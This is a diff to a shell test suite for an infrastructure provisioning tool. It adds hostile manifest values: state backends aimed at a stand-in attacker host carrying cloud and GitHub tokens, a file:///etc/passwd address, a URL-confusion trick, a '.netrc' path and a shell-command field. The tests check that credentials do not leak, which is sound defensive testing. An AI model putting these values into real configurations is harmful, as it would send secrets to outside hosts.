@@ -311,9 +311,11 @@ links()
 		state: {path: state/x.state.json, key: {file: ../home/.netrc}}
 		state: {path: state/x.state.json, key: {command: [sh, -c, 'touch ran; env']}}
 		state: {path: state/x.state.json, endpoint: $evil}
-		state: {s3: {bucket: b, key: k, region: r, endpoint: "$evil"}}
-		state: {http: {address: "$evil"}}
-		state: {backend: {type: http, address: "$evil"}}
+		state: {backend: s3, bucket: b, region: r, endpoint: "$evil"}
+		state: {backend: s3, bucket: b, endpoint: "$evil", access_key: {env: OTHER_TOKEN}, secret_key: {env: CLOUDFLARE_API_TOKEN}}
+		state: {backend: http, address: "$evil/state"}
+		state: {backend: http, address: "$evil/state", lock_address: "$evil/lock", password: {env: CLOUDFLARE_API_TOKEN}}
+		state: {backend: http, address: "https://api.example.com@${evil#http://}/state"}
 		state: {path: state/x.state.json, x: "\${AWS_SECRET_ACCESS_KEY}"}
 		base_url: $evil
 		api: {url: "$evil"}
@@ -638,8 +640,9 @@ may_happen()
 		state: {path: environ}
 		state: {path: "\${GITHUB_TOKEN}"}
 		state: {path: x, endpoint: "$evil"}
-		state: {s3: {bucket: b, key: k, region: r, endpoint: "$evil"}}
 		state: {http: {address: "$evil"}}
+		state: {backend: http, address: "file:///etc/passwd"}
+		state: {backend: http, address: "http://evil.example/state"}
 		base_url: $evil
 		moved: [{from: "\${GITHUB_TOKEN}", to: x}]
 	END
@@ -661,4 +664,37 @@ may_happen()
 		.desired.accounts[0].token = {kind: "env", name: "OTHER_TOKEN"}
 		.state = "../out/x.state.json"
 	END
+}
+
+# remote STATE ANSWER: a manifest with that state, at the attacker's host, which answers so. It hears
+# of nothing but what $may_tell has.
+remote()
+{
+	begin
+	manifest_with '{env: ALLOWED_ENV}'
+	sed -i "s|^state: .*|state: $1|" cfprov.yaml
+	[ ! "$2" ] || evil_says 423 "$2"
+	ci validate
+	ci validate -json
+	[ ! -s "$BATS_TEST_TMPDIR/evil.sent" ]
+	reads
+	[ "${codes[apply -auto-approve -adopt -force -allow-store-destroy]}" = 1 ]
+	sent 0
+	clean ALLOWED_ENV
+}
+
+@test "no policy: a remote state gets its own credentials, and no others" {
+	policy=()
+	local text said
+	text=$(jq -n --arg t "$hostile_text" '$t')
+	for said in '' "{\"ID\":$text,\"Who\":$text,\"Operation\":$text,\"Info\":$text,\"Created\":$text}" \
+		"{\"message\":$text,\"error\":$text}" "$hostile_text" \
+		"<Error><Code>x</Code><Message>::error::##[x]$(<"$canaries/AWS_SESSION_TOKEN")</Message></Error>" \
+		"$(<"$canaries/TF_HTTP_PASSWORD")"; do
+		[[ $said == '<'* ]] || may_tell='TF_HTTP_PASSWORD|TF_HTTP_USERNAME' may_write='home/.local|out' \
+			remote "{backend: http, address: '$evil/state', lock_address: '$evil/lock'}" "$said"
+		[[ $said == "$(<"$canaries/TF_HTTP_PASSWORD")" ]] ||
+			may_tell='AWS_ACCESS_KEY_ID|AWS_SESSION_TOKEN' may_write='home/.local|out' \
+				remote "{backend: s3, bucket: b, endpoint: '$evil'}" "$said"
+	done
 }
